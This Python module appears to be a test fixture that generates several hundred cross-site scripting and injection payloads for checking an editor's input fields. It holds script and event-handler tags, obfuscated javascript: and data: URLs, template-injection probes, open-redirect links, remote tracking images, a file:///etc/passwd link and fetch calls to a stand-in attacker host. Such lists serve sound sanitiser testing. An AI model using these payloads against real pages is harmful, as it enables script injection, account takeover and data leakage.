"""Some hundreds of texts with which people try to make a page do something: for every field of the editor."""

from itertools import product

ALERT = "alert(1)"
_TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src='x' onerror='{}'>", "<svg onload={}>",
    "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe onload={}>", "<details open ontoggle={}>x",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<input autofocus onfocus={}>", "<marquee onstart={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<a href=# onclick={}>x</a>",
    "<math><mtext><img src=x onerror={}>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>", "<button formaction='javascript:{}'>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<style>@import 'javascript:{}'</style>", "<div style='background:url(javascript:{})'>x</div>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "'\"><script>{}</script>", "\"><img src=x onerror={}>", "' onmouseover='{}", "\" autofocus onfocus=\"{}",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<template><script>{}</script></template>",
    "<xmp><img src=x onerror={}></xmp>", "<!--<img src='--><img src=x onerror={}>'>", "<a><table><td><svg onload={}>",
)  # fmt: skip
_DEEDS = ("alert(1)", "window.ran=1", "top.ran=1", "fetch('//evil.example')")
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "javascript%3A{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>", "file:///etc/passwd", "view-source:javascript:{}", "blob:{}",
    "//evil.example/{}", "/\\evil.example/{}", "\\\\evil.example\\{}", "https:evil.example", "http:/evil.example",
    "///evil.example", "/%09/evil.example", "ftp://evil.example/", "intent://evil.example/", "feed:javascript:{}",
    "/people/", "?x", "#x", "./x", "https://", "https://?x", "mailto:", "mailto:/evil.example", "tel:999",
)  # fmt: skip
_LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "[x]({} \"t\")", "[![x]({})](https://ok.example)", "<{}>",
    "[x]: {}\n\n[x]", "**[x]({})**", "- [x]({})",
)  # fmt: skip
_OTHERS = (
    "![remote](https://evil.example/pixel.png)", "![remote](//evil.example/pixel.png)",
    "<img src=//evil.example/p.png>", "<link rel=stylesheet href=//evil.example/a.css>",
    "{{ 7*7 }}", "{% load x %}", "${7*7}", "<%= 7*7 %>",
    "# heading", "> quote", "```\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "~~~\n<b>\n~~~",
    "    <script>alert(1)</script>", "<b>bold</b>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "hx-get=//evil.example", "<div hx-get='//evil.example' hx-trigger=load>x</div>", "<div data-hx-on:load=alert(1)>",
    "<a href=//evil.example>x</a>", "https://evil.example/ <https://evil.example/>", "[x](https://evil.example/onerror=)",
    "[<img src=x onerror=alert(1)>](https://ok.example)", "[a](https://ok.example/\"onmouseover=\"alert(1))",
    "[a](https://ok.example/'><script>alert(1)</script>)", "**<script>alert(1)</script>**", "*<svg onload=alert(1)>*",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(tag.format(deed) for tag, deed in product(_TAGS, _DEEDS)),
            *(link.format(scheme.format(ALERT)) for link, scheme in product(_LINKS, _SCHEMES)),
            *_OTHERS,
        ]
    )
)
